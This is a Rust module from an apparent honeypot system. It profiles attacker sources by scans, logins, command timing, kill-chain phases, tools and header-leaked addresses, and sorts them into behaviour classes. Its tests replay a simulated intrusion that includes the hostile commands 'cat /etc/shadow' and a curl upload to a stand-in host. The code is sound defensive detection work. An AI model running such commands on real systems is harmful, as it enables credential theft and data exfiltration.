//! What a source does: which doors it tries and which it uses, where it goes, when it comes, what it runs, what it says it
//! is and what it lets slip. Absorbed event by event; the state is whole, so it goes on after any restart and one
//! pass or many give the same.

use crate::{agents, profile, profile::Seen, rhythm::Contacts, tactics};
use model::{Micros, Phase};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use std::{
    collections::{BTreeMap, BTreeSet},
    net::IpAddr,
};

/// Entries kept of every list; a source that shows more is using that on purpose.
const KEPT: usize = 32;
/// Ports kept.
const PORTS: usize = 256;
/// Bytes of a text kept.
const TEXT: usize = 256;

/// The state. Everything in it is bounded.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct Behaviour {
    pub events: u64,
    pub first: Micros,
    pub last: Micros,
    /// Services connected to, and those of them that were spoken to.
    pub knocked: BTreeSet<String>,
    pub used: BTreeSet<String>,
    /// Ports tried in scans.
    pub ports: BTreeSet<u16>,
    /// Scans by kind.
    pub scans: BTreeMap<String, u32>,
    pub scanned_targets: u64,
    /// Changes of decky: when, to which.
    pub hops: Vec<(Micros, String)>,
    pub hops_more: u64,
    pub contacts: Contacts,
    /// Contacts by hour of the day, UTC.
    pub hours: [u32; 24],
    pub logins: u64,
    pub logged_in: u64,
    pub commands: u64,
    /// Pauses between commands, milliseconds, the newest.
    pub pauses: Vec<u32>,
    pub last_command: Micros,
    pub requests: u64,
    pub files: u64,
    pub mails: u64,
    pub phases: BTreeMap<Phase, Stage>,
    pub agents: BTreeMap<String, Agent>,
    /// Programs it seems to use, and by what.
    pub tools: BTreeMap<String, String>,
    pub leaks: Vec<Leak>,
    /// Domains it wanted to send mail to.
    pub mail_domains: BTreeMap<String, u64>,
    pub names_asked: BTreeSet<String>,
}

/// One phase of the kill chain.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Stage {
    pub count: u64,
    pub first: Micros,
    pub last: Micros,
    /// The first line that showed it.
    pub example: String,
}

/// User agents of one class.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Agent {
    pub count: u64,
    pub example: String,
}

/// An address that a header gave away. The sender may have made it up.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Leak {
    pub header: String,
    pub claim: String,
    /// `public`, `private` or `nonsense`.
    pub kind: String,
    pub count: u64,
    pub last: Micros,
}

/// What it amounts to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Class {
    /// Only knocked.
    Visitor,
    Scanner,
    BruteForcer,
    /// Comes back like clockwork.
    Beacon,
    /// Runs commands faster than fingers.
    Scripted,
    /// Somebody types.
    Interactive,
    /// Reads pages.
    Browser,
}

impl Class {
    /// The stored name.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Visitor => "visitor",
            Self::Scanner => "scanner",
            Self::BruteForcer => "brute_forcer",
            Self::Beacon => "beacon",
            Self::Scripted => "scripted",
            Self::Interactive => "interactive",
            Self::Browser => "browser",
        }
    }
}

impl Behaviour {
    /// Takes in one event.
    pub fn absorb(&mut self, seen: &Seen<'_>) {
        if self.events == 0 || seen.at < self.first {
            self.first = seen.at;
        }
        self.events += 1;
        self.last = self.last.max(seen.at);
        let text = |name: &str| seen.fields.get(name).and_then(Value::as_str).unwrap_or_default();
        if self.hops.last().is_none_or(|(_, decky)| decky != seen.decky) {
            if self.hops.len() < KEPT { self.hops.push((seen.at, seen.decky.to_owned())) } else { self.hops_more += 1 }
        }
        match seen.event_type {
            "connect" => {
                keep(&mut self.knocked, seen.service);
                self.contact(seen.at);
                self.stack(seen);
                return;
            }
            "tcp_syn_fingerprint" => {
                self.contact(seen.at);
                return self.stack(seen);
            }
            "port_scan" => return self.scan(seen),
            "dns_query" => {
                keep(&mut self.names_asked, profile::cut(text("name"), TEXT));
                return;
            }
            "disconnect" | "tcp_flow_timing" | "tls_session" | "quic_client_hello" | "icmp_probe" | "syn_flood" => return,
            "ssh_client" => {
                let banner = text("ssh_banner");
                if let Some(tool) = agents::ssh_tool(if banner.is_empty() { text("banner") } else { banner }) {
                    self.tool(tool, "SSH identification");
                }
            }
            "auth_attempt" => {
                self.logins += 1;
                self.logged_in += u64::from(text("outcome") == "success");
                self.phase(Phase::CredentialAccess, seen.at, text("principal"));
            }
            "command" => self.command(seen.at, text("command")),
            "request" => self.request(seen),
            "file_captured" => {
                self.files += 1;
                self.phase(Phase::Delivery, seen.at, text("path"));
            }
            "url_seen" => self.phase(Phase::CommandAndControl, seen.at, text("url")),
            "message_stored" => self.mail(seen),
            _ => {}
        }
        if seen.service != profile::SNIFFER {
            keep(&mut self.used, seen.service);
        }
    }

    /// What it amounts to, and why.
    pub fn class(&self) -> (Class, String) {
        let beacon = self.contacts.rhythm().filter(|r| r.beacon);
        let scans: u32 = self.scans.values().sum();
        if self.commands >= 3 {
            let pause = self.pause();
            let typed = pause.is_some_and(|ms| ms >= 1_200);
            let why = format!("{} commands, {} ms between them", self.commands, pause.unwrap_or_default());
            return (if typed { Class::Interactive } else { Class::Scripted }, why);
        }
        if self.logins >= 5 && self.logged_in * 4 <= self.logins {
            return (Class::BruteForcer, format!("{} logins tried, {} of them taken", self.logins, self.logged_in));
        }
        if let Some(rhythm) = beacon {
            return (Class::Beacon, format!("every {} s, jitter {}", rhythm.median_s, rhythm.jitter));
        }
        if scans > 0 || (self.knocked.len() >= 4 && self.used.len() * 2 <= self.knocked.len()) {
            let tried = if self.ports.is_empty() { self.knocked.len() } else { self.ports.len() };
            return (Class::Scanner, format!("{tried} doors tried, {} used", self.used.len()));
        }
        if self.requests >= 3 {
            return (Class::Browser, format!("{} requests", self.requests));
        }
        (Class::Visitor, format!("{} contacts", self.contacts.len()))
    }

    /// Median pause between commands, milliseconds.
    fn pause(&self) -> Option<u32> {
        let mut pauses = self.pauses.clone();
        pauses.sort_unstable();
        pauses.get(pauses.len() / 2).copied()
    }

    /// What is shown.
    pub fn view(&self) -> Value {
        let (class, why) = self.class();
        json!({
            "class": class.as_str(),
            "class_why": why,
            "services_scanned": self.knocked.difference(&self.used).collect::<Vec<_>>(),
            "services_used": self.used,
            "ports_scanned": self.ports,
            "scans": self.scans,
            "path": self.hops.iter().map(|(at, decky)| json!({ "at": at.rfc3339(), "decky": decky })).collect::<Vec<_>>(),
            "path_more": self.hops_more,
            "contacts": self.contacts.len(),
            "rhythm": self.contacts.rhythm(),
            "hours": self.hours,
            "command_pause_ms": self.pause(),
            "logins": self.logins,
            "logged_in": self.logged_in,
            "phases": self.phases.iter().map(|(phase, stage)| json!({
                "phase": phase, "stage": phase.stage(), "count": stage.count,
                "first": stage.first.rfc3339(), "last": stage.last.rfc3339(), "example": stage.example,
            })).collect::<Vec<_>>(),
            "user_agents": self.agents.iter().map(|(class, a)| json!({ "class": class, "count": a.count, "example": a.example })).collect::<Vec<_>>(),
            "tools": self.tools.iter().map(|(tool, by)| json!({ "tool": tool, "by": by })).collect::<Vec<_>>(),
            "leaks": self.leaks.iter().map(|l| json!({
                "header": l.header, "claim": l.claim, "kind": l.kind, "count": l.count, "last": l.last.rfc3339(),
            })).collect::<Vec<_>>(),
            "mail_domains": self.mail_domains,
            "names_asked": self.names_asked,
        })
    }

    fn contact(&mut self, at: Micros) {
        self.contacts.absorb(at);
        let hour = usize::try_from(at.seconds().rem_euclid(86_400) / 3_600).unwrap_or(0);
        if let Some(count) = self.hours.get_mut(hour) {
            *count = count.saturating_add(1);
        }
    }

    fn stack(&mut self, seen: &Seen<'_>) {
        let Some(tcp) = seen.fields.get("tcp") else { return };
        if tcp.get("tool").and_then(Value::as_bool) == Some(true)
            && let Some(name) = tcp.get("looks_like").and_then(Value::as_str)
        {
            self.tool(name, "TCP SYN");
        }
    }

    fn scan(&mut self, seen: &Seen<'_>) {
        let kind = seen.fields.get("scan").and_then(Value::as_str).unwrap_or("syn");
        let over = seen.fields.get("over").and_then(Value::as_bool) == Some(true);
        if over {
            self.scanned_targets += seen.fields.get("targets").and_then(Value::as_u64).unwrap_or(0);
        } else if self.scans.len() < KEPT || self.scans.contains_key(kind) {
            *self.scans.entry(kind.to_owned()).or_default() += 1;
        }
        for port in seen.fields.get("ports").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_u64) {
            if self.ports.len() < PORTS {
                self.ports.insert(u16::try_from(port).unwrap_or(0));
            }
        }
        self.phase(Phase::Reconnaissance, seen.at, kind);
    }

    fn command(&mut self, at: Micros, line: &str) {
        self.commands += 1;
        if self.last_command.0 != 0 {
            let pause = u32::try_from((at.0 - self.last_command.0).max(0) / 1_000).unwrap_or(u32::MAX);
            // Longer than this is another visit.
            if pause < 300_000 {
                if self.pauses.len() >= KEPT {
                    self.pauses.remove(0);
                }
                self.pauses.push(pause);
            }
        }
        self.last_command = self.last_command.max(at);
        if let Some(phase) = tactics::of_line(line) {
            self.phase(phase, at, line);
        }
    }

    fn request(&mut self, seen: &Seen<'_>) {
        self.requests += 1;
        let headers = seen.fields.get("headers").and_then(Value::as_array);
        let mut agent = None;
        for pair in headers.into_iter().flatten() {
            let Some([Value::String(name), Value::String(value)]) = pair.as_array().map(Vec::as_slice) else { continue };
            match name.to_ascii_lowercase().as_str() {
                "user-agent" => agent = Some(value.as_str()),
                header @ ("forwarded" | "x-forwarded-for" | "x-real-ip" | "true-client-ip" | "cf-connecting-ip" | "x-client-ip") => {
                    self.leak(seen.at, header, value);
                }
                _ => {}
            }
        }
        let (class, tool) = agents::class_of(agent.unwrap_or_default());
        let entry = self.agents.entry(class.as_str().to_owned()).or_default();
        entry.count += 1;
        if entry.example.is_empty() {
            entry.example = profile::cut(agent.unwrap_or_default(), TEXT).to_owned();
        }
        if let Some(tool) = tool {
            self.tool(tool, "user agent");
        }
    }

    /// The left-most address that a header names.
    fn leak(&mut self, at: Micros, header: &str, value: &str) {
        let claim = value
            .split([',', ';'])
            .map(|part| part.trim().trim_start_matches("for=").trim_start_matches("For=").trim_matches(['"', '[', ']']))
            .find_map(|part| part.parse::<IpAddr>().ok());
        let kind = match claim {
            Some(ip) if is_public(ip) => "public",
            Some(_) => "private",
            None => "nonsense",
        };
        let claim = claim.map_or_else(|| profile::cut(value, 64).to_owned(), |ip| ip.to_string());
        if let Some(leak) = self.leaks.iter_mut().find(|l| l.claim == claim && l.header == header) {
            leak.count += 1;
            leak.last = leak.last.max(at);
        } else if self.leaks.len() < KEPT {
            self.leaks.push(Leak { header: header.to_owned(), claim, kind: kind.to_owned(), count: 1, last: at });
        }
    }

    fn mail(&mut self, seen: &Seen<'_>) {
        self.mails += 1;
        for to in seen.fields.get("rcpt_to").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str) {
            let Some((_, domain)) = to.trim_end_matches('>').rsplit_once('@') else { continue };
            let domain = profile::cut(domain, TEXT).to_ascii_lowercase();
            if self.mail_domains.len() < KEPT || self.mail_domains.contains_key(&domain) {
                *self.mail_domains.entry(domain).or_default() += 1;
            }
        }
    }

    fn phase(&mut self, phase: Phase, at: Micros, example: &str) {
        let stage = self.phases.entry(phase).or_insert_with(|| Stage {
            first: at,
            example: profile::cut(example, TEXT).to_owned(),
            ..Stage::default()
        });
        stage.count += 1;
        stage.first = stage.first.min(at);
        stage.last = stage.last.max(at);
    }

    fn tool(&mut self, tool: &str, by: &str) {
        if self.tools.len() < KEPT && !self.tools.contains_key(tool) {
            self.tools.insert(tool.to_owned(), by.to_owned());
        }
    }
}

fn keep(set: &mut BTreeSet<String>, value: &str) {
    if !value.is_empty() && set.len() < KEPT * 2 && !set.contains(value) {
        set.insert(value.to_owned());
    }
}

/// Whether an address is one of the internet at large, and not of somebody's own network, documentation or a test.
pub fn is_public(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(ip) => {
            let [a, b, c, _] = ip.octets();
            !(ip.is_private()
                || ip.is_loopback()
                || ip.is_link_local()
                || ip.is_broadcast()
                || ip.is_documentation()
                || ip.is_unspecified()
                || ip.is_multicast()
                || a == 0
                || a >= 240
                || (a == 100 && (64..128).contains(&b))
                || (a == 198 && (b == 18 || b == 19))
                || (a == 192 && b == 0 && c == 0))
        }
        IpAddr::V6(ip) => match ip.to_ipv4_mapped() {
            Some(ip) => is_public(IpAddr::V4(ip)),
            None => {
                let [first, second, ..] = ip.segments();
                first & 0xe000 == 0x2000 && !(first == 0x2001 && (second == 0xdb8 || second < 0x200)) && first != 0x2002 && first != 0x3fff
            }
        },
    }
}

#[derive(Deserialize)]
struct Kept {
    state: Behaviour,
}

/// Reads a state kept by [`keep_as`]; one that cannot be read begins anew.
pub fn restore(text: &str) -> Behaviour {
    serde_json::from_str::<Kept>(text).map(|kept| kept.state).unwrap_or_default()
}

/// The state, and beside it the [`view`](Behaviour::view) of it, as JSON: `{"state": …, "view": …}`.
pub fn keep_as(behaviour: &Behaviour) -> String {
    json!({ "state": behaviour, "view": behaviour.view() }).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Map;

    fn fields(value: Value) -> Map<String, Value> {
        value.as_object().cloned().unwrap_or_default()
    }

    fn absorb(behaviour: &mut Behaviour, at: f64, decky: &str, service: &str, event_type: &str, value: Value) {
        let fields = fields(value);
        #[expect(clippy::cast_possible_truncation, reason = "some hours in microseconds")]
        let at = Micros(1_700_000_000_000_000 + (at * 1e6) as i64);
        behaviour.absorb(&Seen { at, decky, service, event_type, fields: &fields });
    }

    #[test]
    fn a_visit_is_understood_and_survives_being_kept() {
        let (mut whole, mut torn) = (Behaviour::default(), Behaviour::default());
        let events = [
            (0.0, "web", "sniffer", "port_scan", json!({ "scan": "syn", "over": false, "ports": [22, 80], "targets": 8 })),
            (1.0, "web", "http", "connect", json!({ "tcp": { "tool": true, "looks_like": "masscan" } })),
            (2.0, "web", "http", "request", json!({ "headers": [["User-Agent", "curl/8"], ["X-Forwarded-For", "203.0.113.9, 10.0.0.1"]] })),
            (3.0, "web", "http", "request", json!({ "headers": [["X-Real-IP", "8.8.8.8"]] })),
            (4.0, "db", "ssh", "connect", json!({})),
            (5.0, "db", "ssh", "ssh_client", json!({ "ssh_banner": "SSH-2.0-paramiko_3" })),
            (6.0, "db", "ssh", "auth_attempt", json!({ "principal": "root", "outcome": "success" })),
            (8.0, "db", "ssh", "command", json!({ "command": "uname -a" })),
            (11.0, "db", "ssh", "command", json!({ "command": "cat /etc/shadow" })),
            (13.5, "db", "ssh", "command", json!({ "command": "curl -T x http://h/" })),
            (20.0, "web", "ftp", "connect", json!({})),
            (21.0, "mail", "smtp", "message_stored", json!({ "rcpt_to": ["<a@Example.ORG>", "b@example.org"] })),
        ];
        for (at, decky, service, kind, value) in events {
            absorb(&mut whole, at, decky, service, kind, value.clone());
            absorb(&mut torn, at, decky, service, kind, value);
            torn = restore(&keep_as(&torn));
        }
        assert_eq!(whole, torn);
        assert_eq!(whole.class().0, Class::Interactive);
        let view = whole.view();
        assert_eq!(view["services_scanned"], json!(["ftp"]));
        assert_eq!(view["services_used"], json!(["http", "smtp", "ssh"]));
        assert_eq!(
            view["path"].as_array().unwrap().iter().map(|h| h["decky"].as_str().unwrap()).collect::<Vec<_>>(),
            ["web", "db", "web", "mail"]
        );
        let phases: Vec<_> = view["phases"].as_array().unwrap().iter().map(|p| p["phase"].as_str().unwrap()).collect();
        assert_eq!(phases, ["reconnaissance", "discovery", "credential_access", "exfiltration"]);
        assert_eq!(view["phases"][0]["stage"], "in");
        let tools: Vec<_> = view["tools"].as_array().unwrap().iter().map(|t| t["tool"].as_str().unwrap()).collect();
        assert_eq!(tools, ["Paramiko", "curl", "masscan"]);
        assert_eq!((&view["leaks"][0]["claim"], &view["leaks"][0]["kind"]), (&json!("203.0.113.9"), &json!("private")));
        assert_eq!(view["leaks"][1]["kind"], "public");
        assert_eq!(view["mail_domains"], json!({ "example.org": 2 }));
    }

    #[test]
    fn classes() {
        let mut forcer = Behaviour::default();
        for n in 0..20 {
            absorb(&mut forcer, f64::from(n), "web", "ssh", "auth_attempt", json!({ "outcome": "failure" }));
        }
        assert_eq!(forcer.class().0, Class::BruteForcer);
        let mut beacon = Behaviour::default();
        for n in 0..20 {
            absorb(&mut beacon, f64::from(n) * 60.0, "web", "http", "connect", json!({}));
        }
        assert_eq!(beacon.class().0, Class::Beacon);
        let mut script = Behaviour::default();
        for n in 0..9 {
            absorb(&mut script, f64::from(n) * 0.05, "web", "ssh", "command", json!({ "command": "id" }));
        }
        assert_eq!(script.class().0, Class::Scripted);
        assert_eq!(Behaviour::default().class().0, Class::Visitor);
    }

    #[test]
    fn hostile_amounts_stay_bounded() {
        let mut behaviour = Behaviour::default();
        for n in 0..3_000 {
            let text = format!("{n}{}", "ä".repeat(400));
            absorb(&mut behaviour, f64::from(n) * 2.0, &text, &text, "connect", json!({}));
            absorb(
                &mut behaviour,
                f64::from(n) * 2.0,
                &text,
                &text,
                "request",
                json!({ "headers": [["User-Agent", text], ["x-real-ip", text]] }),
            );
            absorb(&mut behaviour, f64::from(n) * 2.0, "d", &text, "message_stored", json!({ "rcpt_to": [format!("a@{text}")] }));
            absorb(&mut behaviour, f64::from(n) * 2.0, "d", "s", "command", json!({ "command": text }));
        }
        // Names of services and deckies are ours, but even so.
        assert!(keep_as(&behaviour).len() < 400_000, "{}", keep_as(&behaviour).len());
        assert_eq!((behaviour.hops.len(), behaviour.leaks.len(), behaviour.mail_domains.len()), (KEPT, KEPT, KEPT));
    }

    #[test]
    fn public_addresses() {
        for (ip, public) in [
            ("8.8.8.8", true),
            ("10.0.0.1", false),
            ("100.64.0.1", false),
            ("127.0.0.1", false),
            ("192.0.2.1", false),
            ("224.0.0.1", false),
            ("169.254.1.1", false),
            ("2a00::1", true),
            ("fd00::1", false),
            ("fe80::1", false),
            ("::1", false),
            ("2001:db8::1", false),
            ("::ffff:10.0.0.1", false),
        ] {
            assert_eq!(is_public(ip.parse().unwrap()), public, "{ip}");
        }
    }
}
